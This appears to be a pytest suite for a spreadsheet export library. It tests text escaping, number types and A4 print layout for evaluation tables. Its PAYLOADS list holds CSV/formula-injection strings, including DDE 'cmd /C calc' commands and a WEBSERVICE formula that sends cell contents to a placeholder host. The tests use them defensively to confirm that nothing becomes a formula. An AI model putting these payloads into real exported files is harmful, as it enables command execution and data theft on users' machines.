"""Exported tables: text stays text, numbers stay numbers, the paper is A4."""

import csv
import math
import os
import re
import shutil
import subprocess
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from cxzy.sheets.documents import Column, Document, Section, document_workbook
from cxzy.sheets.grade_colours import grade_fills
from cxzy.sheets.plain_text import legible

# What spreadsheets have been made to compute, after OWASP's list on CSV injection.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=HYPERLINK("http://example.invalid","点这里")',
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    '=IMPORTXML("http://example.invalid","//a")',
    '=IMAGE("http://example.invalid/a.png")',
    "=1+1;=1+1",
    "'=1+1",
    '"=1+1"',
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "</t></is></c><c><f>1+1</f>",
    "&lt;f&gt;1+1",
    "]]>=1+1",
    "_x003D_1+1",
    "{=1+1}",
)


def document(values: list[str]) -> Document:
    rows = tuple((value, place / 7) for place, value in enumerate(values, 1))
    return Document("=1+1", ("=2+2",), (Column("姓名"), Column("得分", "number")), rows)


def cells(content: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return list(sheet.iter_rows(min_row=5, values_only=True))


def parts(content: bytes) -> dict[str, str]:
    with ZipFile(BytesIO(content)) as package:
        return {name: package.read(name).decode() for name in package.namelist()}


def test_no_text_becomes_a_formula_in_the_file_itself() -> None:
    written = parts(document_workbook(document(list(PAYLOADS))))
    sheet = written["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert not [name for name in written if "externalLink" in name or "hyperlink" in name]
    assert sheet.count('t="inlineStr"') == len(PAYLOADS) + 4  # title, line and two headings


def test_text_and_numbers_are_read_back_as_given() -> None:
    found = cells(document_workbook(document(list(PAYLOADS))))
    texts = [row[0] for row in found][: len(PAYLOADS)]
    assert texts == [legible(value) for value in PAYLOADS]
    assert [row[1] for row in found] == [place / 7 for place in range(1, len(PAYLOADS) + 1)]


def test_a_cell_that_starts_dangerously_stays_text_when_a_person_edits_it() -> None:
    sheet = load_workbook(BytesIO(document_workbook(document(["=1+1", "张三"])))).worksheets[0]
    assert sheet["A5"].quotePrefix
    assert not sheet["A6"].quotePrefix


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_and_computes_nothing(tmp_path: Path) -> None:
    (tmp_path / "d.xlsx").write_bytes(document_workbook(document(list(PAYLOADS))))
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
        + ["--convert-to", csv_filter, "d.xlsx"],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    text = (tmp_path / "d.csv").read_text(encoding="utf-8")
    shown = [row[0] for row in csv.reader(text.splitlines(keepends=True))][4:]
    assert shown[: len(PAYLOADS)] == [
        value.replace("\r", "\n").replace("\x00", "␀") for value in PAYLOADS
    ]


def test_forbidden_characters_become_pictures_and_the_rest_stays() -> None:
    assert legible("甲\x00乙\x1f丙\r\n丁\ud800\uffff") == "甲␀乙␟丙\n丁\ufffd\ufffd"


def test_an_excel_escape_in_a_name_is_not_decoded() -> None:
    # ECMA-376 22.4.2.4: `_x0041_` reads as “A”, so a literal one is written `_x005F_x0041_`.
    assert legible("_x0041_") == "_x005F_x0041_"
    assert legible("_x41_") == "_x41_"


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=40), st.floats(allow_nan=False, allow_infinity=False))
def test_any_text_and_any_number_survive(text: str, number: float) -> None:
    table = Document("表", (), (Column("a"), Column("b", "number")), ((text, number),))
    sheet = load_workbook(BytesIO(document_workbook(table))).worksheets[0]
    assert (sheet["A4"].value or "") == legible(text)
    assert sheet["B4"].value == number
    assert sheet["B4"].data_type == "n"


def test_numbers_of_numpy_and_missing_ones_are_written_plainly() -> None:
    columns = (Column("a", "number"), Column("b", "integer"), Column("c", "number"), Column("d"))
    row = (np.float64(84.6), int(np.int64(3)), math.nan, None)
    sheet = load_workbook(
        BytesIO(document_workbook(Document("表", (), columns, (row,))))
    ).worksheets[0]
    assert [cell.value for cell in sheet[4]] == [84.6, 3, None, None]


def test_a_row_with_too_few_values_is_refused() -> None:
    with pytest.raises(ValueError, match="1 values for 2 columns"):
        document_workbook(Document("表", (), (Column("a"), Column("b")), (("x",),)))


def full_document() -> Document:
    columns = (
        Column("名次", "integer"),
        Column("姓名"),
        Column("得分", "number"),
        Column("等次", "grade"),
        Column("满意率", "percent", 1),
        *(Column(label, "number", over="党员互评") for label in ("均分", "构成")),
    )
    rows = tuple((i, f"成员{i}", 90 - i / 3, "优秀", 0.934, 90.0, 27.0) for i in range(1, 60))
    about = (Section("方案", (("名称", "一会四评"),)),)
    return Document(
        "排名",
        ("方案:一会四评", "周期:2012年上半年"),
        columns,
        rows,
        ("注",),
        ("优秀", "后进"),
        "排名",
        2,
        about,
    )


def test_the_table_is_set_up_for_a4_with_repeated_headings_and_page_numbers() -> None:
    sheet, about = load_workbook(BytesIO(document_workbook(full_document()))).worksheets
    assert sheet.page_setup.paperSize == 9  # ST_PaperSize 9 is A4
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.orientation == "portrait"
    assert sheet.freeze_panes == "C7"
    assert sheet.print_title_rows == "$1:$6"
    assert sheet.oddFooter.right.text == "&P / &N"
    assert about.title == "说明"


def test_a_wide_table_lies_across() -> None:
    columns = tuple(Column(f"第{place}项测评", "number") for place in range(14))
    wide = Document("宽表", (), columns, ((1.0,) * 14,))
    assert load_workbook(BytesIO(document_workbook(wide))).worksheets[0].page_setup.orientation == (
        "landscape"
    )


def test_numbers_of_a_column_show_the_same_decimals_on_the_right() -> None:
    sheet = load_workbook(BytesIO(document_workbook(full_document()))).worksheets[0]
    formats = {sheet.cell(row, 3).number_format for row in range(7, 60)}
    assert len(formats) == 1
    assert formats.pop().startswith("0.00")
    assert sheet["E7"].number_format.startswith("0.0%")
    assert sheet["C7"].alignment.horizontal == "right"


def test_every_grade_has_its_colour_and_the_lowest_is_hatched() -> None:
    sheet = load_workbook(BytesIO(document_workbook(full_document()))).worksheets[0]
    rules = {
        rule.formula[0]: rule.dxf.fill.fill_type
        for area in sheet.conditional_formatting
        for rule in area.rules
    }
    assert rules == {'"优秀"': "solid", '"后进"': "lightUp"}


def test_grade_colours_are_ordered_in_grey_and_end_in_the_lowest() -> None:
    for count in range(2, 8):
        *better, lowest = grade_fills(count)
        greys = [sum(int(fill[at : at + 2], 16) for at in (0, 2, 4)) for fill in better]
        assert greys == sorted(greys)
        assert lowest == "C8553D"
    assert grade_fills(4) == ("0F4C5C", "4F8FA0", "C3CFC4", "C8553D")


def test_the_declared_area_covers_every_cell() -> None:
    written = parts(document_workbook(full_document()))["xl/worksheets/sheet1.xml"]
    area = re.search(r'<dimension ref="A1:G(\d+)"', written)
    assert area is not None
    assert int(area[1]) == 6 + 59 + 2


def test_a_sheet_name_that_excel_forbids_is_mended() -> None:
    named = Document("2012/1: [表]*?" + "长" * 40, (), (Column("a"),), ())
    (sheet,) = load_workbook(BytesIO(document_workbook(named))).sheetnames
    assert len(sheet) <= 31
    assert not set(sheet) & set("[]:*?/\\")


def printed_points(content: bytes) -> float:
    """Return the size of body text on A4: 10.5 points, times what one page's width leaves.

    A unit of width takes at most 6.5 points in the fonts that LibreOffice and Excel use.
    """
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert sheet.page_setup.orientation == "landscape"
    paper = 841.9 - 72 * (sheet.page_margins.left + sheet.page_margins.right)
    places = range(1, sheet.max_column + 1)
    wide = sum(sheet.column_dimensions[get_column_letter(place)].width for place in places)
    return 10.5 * min(1.0, paper / (6.5 * wide))


def test_a_table_of_many_columns_is_readable_in_print() -> None:
    numbers = [Column(_label, "number", over="均分") for _label in ("领导点评", "联系服务群众") * 6]
    columns = (Column("党支部"), Column("工号"), *numbers, Column("备注"))
    row = (
        "纺织学院教工第一党支部",
        "201001114471",
        *[100.0] * 12,
        "群众测评人数不足，未计入。" * 4,
    )
    content = document_workbook(Document("排名", (), columns, (row,) * 3))
    assert printed_points(content) >= 8
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    # numbers are never parted: 12 digits need 12 units, 100.00 six
    assert sheet.column_dimensions["B"].width > 12
    assert sheet.column_dimensions["C"].width > 6
    assert sheet.print_title_rows == "$1:$4"
    assert [cell.value for cell in sheet[5]] == list(row)
